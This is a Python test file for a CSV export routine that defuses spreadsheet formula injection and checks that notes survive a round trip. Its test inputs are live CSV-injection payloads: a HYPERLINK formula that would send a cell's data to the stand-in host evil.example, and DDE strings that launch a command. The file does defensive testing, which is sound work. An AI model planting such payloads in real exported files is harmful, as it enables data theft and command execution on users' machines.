"""What somebody typed as a note stays a note in a spreadsheet, and comes back as it was meant.

That a spreadsheet runs cells that begin with one of these signs, and that an apostrophe in front stops it, is the
advice of the Open Worldwide Application Security Project (page "CSV injection", from memory).
"""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evenground.adapters.record_table import read_records
from evenground.adapters.record_writing import as_meant, canonical_columns, harmless, rows_text
from evenground.basis.observations import Event
from evenground.web.trials.store import DatabaseStore

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "'=1+1",
    "''-x",
)


def noted(note: str) -> Event:
    return Event(
        id="=1+1", time=datetime(2026, 4, 28, 9), who="@driver", strips=(1,), event="sown", method="A", note=note
    )


@pytest.mark.parametrize("note", FORMULAS)
def test_no_cell_begins_like_a_formula_and_nothing_is_lost(note):
    record = noted(note)
    data = rows_text([record], canonical_columns("events")).encode()
    cells = list(csv.reader(io.StringIO(data.decode())))[1]
    assert not [c for c in cells if c[:1] in "=+-@\t\r" and c]
    assert read_records(data, "events", file="events.csv").records == (record,)


@given(st.text(alphabet="'=+-@ax \t", max_size=8))
def test_the_way_there_and_back(text):
    assert as_meant(harmless(text)) == text
    assert harmless(text)[:1] not in ("=", "+", "-", "@", "\t")


def test_numbers_below_zero_stay_numbers():
    from evenground.basis.observations import WeatherDay

    day = WeatherDay(
        id="d", time=datetime(2026, 4, 28), who="x", day="2026-04-28", temperature_max_c=1.0, temperature_min_c=-3.5
    )
    text = rows_text([day], canonical_columns("weather"))
    assert "-3.5" in text
    assert "'-3.5" not in text


def test_what_the_app_hands_out(browser, demo_trial, owner):
    DatabaseStore(demo_trial, owner).append_records([noted(FORMULAS[0]).model_copy(update={"event": "strip_lost"})])
    data = browser.get(f"/trials/{demo_trial.slug}/move/events.csv").getvalue()
    assert b"'=HYPERLINK" in data
    for cells in csv.reader(io.StringIO(data.decode())):
        assert not [c for c in cells if c[:1] in ("=", "@", "\t")]
